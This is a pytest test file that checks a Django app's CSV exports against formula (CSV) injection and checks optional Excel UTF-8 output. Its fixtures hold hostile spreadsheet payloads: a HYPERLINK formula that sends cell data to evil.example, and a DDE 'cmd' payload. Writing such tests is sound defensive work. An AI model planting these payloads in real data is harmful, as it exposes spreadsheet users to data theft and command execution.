"""Every CSV export goes through the one writer (core.csv): no cell a spreadsheet would run as a
formula, and Excel-friendly UTF-8 on request (issue 17, OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from knox.models import AuthToken
from rest_framework.test import APIClient

from funnels.models import Funnel
from tenancy.models import Membership, Workspace
from tests.conftest import crm_users, journeys

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
PERIOD = {"as_of": "2025-03-31", "days": "30"}


@pytest.fixture
def hostile(make_workspace) -> Workspace:
    workspace = make_workspace("evil")[0]
    crm_users(workspace, [{"external_id": "=1+1", "name": HOSTILE_NAME, "email": "a@b.test"}])
    journeys(
        workspace,
        [("=1+1", "2025-03-10T09:00:00Z", "=cmd|' /C calc'!A0", "view", "@detail")]
        + [("=1+1", "2025-03-10T09:05:00Z", "Leads", "create", "-x")],
    )
    return workspace


@pytest.fixture
def api(hostile: Workspace) -> APIClient:
    user = get_user_model().objects.create_user(username="admin-evil")
    Membership.objects.create(workspace=hostile, user=user, role=Membership.Role.ADMIN)
    _, token = AuthToken.objects.create(user)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    return client


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(
    "path",
    [
        "users?as_of=2025-03-31&days=30&format=csv",
        "hub/popularity?start=2025-03-01&end=2025-03-31&format=csv",
        "activity/features?as_of=2025-03-31&days=30&format=csv",
        "home/top-users?as_of=2025-03-31&days=30&format=csv",
        "trends?feature=Leads&start=2025-03-01&end=2025-03-31&format=csv",
        "features?format=csv",
    ],
)
def test_no_export_holds_a_formula(api: APIClient, path: str) -> None:
    response = api.get(f"/api/v1/workspaces/evil/{path}")
    assert response.status_code == 200, response.content
    text = response.content.decode()
    assert formulas(text) == [], text
    if path.startswith("users"):
        assert "'=1+1" in cells(text) and "'" + HOSTILE_NAME in cells(text)


def test_funnel_and_filter_set_exports_hold_no_formula(api: APIClient, hostile: Workspace) -> None:
    owner = get_user_model().objects.get(username="admin-evil")
    steps = [{"feature": "=cmd|' /C calc'!A0", "action": "view"}, {"feature": "Leads", "action": "create"}]
    funnel = Funnel.objects.create(workspace=hostile, owner=owner, name="=evil", steps=steps)
    text = api.get(f"/api/v1/workspaces/evil/funnels/{funnel.pk}/results?start=2025-03-01&end=2025-03-31&format=csv")
    assert text.status_code == 200
    assert formulas(text.content.decode()) == []
    body = {"conditions": {"features": [{"feature": "Leads"}]}}
    matched = api.post(
        "/api/v1/workspaces/evil/filter-sets/query?as_of=2025-03-31&days=30&format=csv", body, format="json"
    )
    assert matched.status_code == 200 and formulas(matched.content.decode()) == []
    assert "'" + HOSTILE_NAME in cells(matched.content.decode())


def test_the_filter_set_page_download_holds_no_formula(client: Client, hostile: Workspace) -> None:
    user = get_user_model().objects.get_or_create(username="page-evil")[0]
    Membership.objects.create(workspace=hostile, user=user, role=Membership.Role.ADMIN)
    client.force_login(user)
    query = {
        **PERIOD,
        "features-TOTAL_FORMS": "1",
        "features-INITIAL_FORMS": "0",
        "features-0-feature": "Leads",
        "features-0-used": "true",
        "features-0-min_count": "1",
        "activity-TOTAL_FORMS": "0",
        "activity-INITIAL_FORMS": "0",
    }
    response = client.get("/w/evil/users/filter-sets/users.csv", query)
    assert response.status_code == 200, response.content
    assert formulas(response.content.decode()) == [] and "'" + HOSTILE_NAME in cells(response.content.decode())


def test_excel_asks_for_a_byte_order_mark(api: APIClient, hostile: Workspace) -> None:
    crm_users(hostile, [{"external_id": "zh", "name": "王小明"}])
    plain = api.get("/api/v1/workspaces/evil/users?format=csv").content
    excel = api.get("/api/v1/workspaces/evil/users?format=csv&excel=1").content
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel == b"\xef\xbb\xbf" + plain
    assert "王小明" in excel.decode("utf-8-sig")


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised(value: str) -> None:
    from core.csv import csv_text

    text = csv_text([{"a": value, "n": -3.5}], ["a", "n"])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row == {"a": "'" + value, "n": "-3.5"}  # text neutralised, a number left a number
